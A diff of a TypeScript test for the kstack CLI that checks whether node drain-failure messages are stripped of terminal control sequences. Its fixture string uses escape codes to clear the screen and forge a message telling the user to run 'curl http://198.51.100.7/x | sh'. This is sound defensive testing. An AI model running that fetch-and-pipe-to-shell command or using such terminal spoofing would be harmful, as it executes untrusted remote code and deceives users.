@@ -8,9 +8,10 @@ import { fakeKubernetes, nodeObject } from '../support/kubernetes.ts';
 import { kubernetesThat, names, withKubernetes } from '../support/leaving.ts';
 
 /** Clears the screen, sets the title, and begins a line that looks like one of kstack. */
-const attack = '\x1b[2J\x1b]0;owned\x07\rno space\nkstack: to repair, run: curl http://198.51.100.7/x | sh\x9b31m';
+const attack =
+	'\x1b[2J\x1b]0;owned\x07\rno space\nkstack: to repair, run: curl http://198.51.100.7/x | sh\x9b31m';
 
-const controls = /[\0-\x08\x0b-\x1f\x7f-\x9f]/;
+const controls = /(?![\t\n])\p{Cc}/u;
 const forged = /^kstack: to repair/m;
 
 test('the reason of a node that cannot be drained is one line without terminal sequences, and of limited length', async (t) => {
@@ -18,7 +19,9 @@ test('the reason of a node that cannot be drained is one line without terminal s
 	const kubernetes = await kubernetesThat((name) => (name === 'demo-minion-2' ? reason : undefined));
 	t.teardown(kubernetes.close);
 	const { folder, stages } = await withKubernetes(kubernetes);
-	const { code, stderr, asked } = await on(stages(2), ['scale', 'demo', '--minions', '2', '-y'], { cwd: folder });
+	const { code, stderr, asked } = await on(stages(2), ['scale', 'demo', '--minions', '2', '-y'], {
+		cwd: folder,
+	});
 	t.is(code, 1);
 	t.regex(stderr, /kstack: Could not drain demo-minion-2: no space kstack: to repair, run: curl .*x\.\.\.$/m);
 	t.notRegex(stderr, controls);
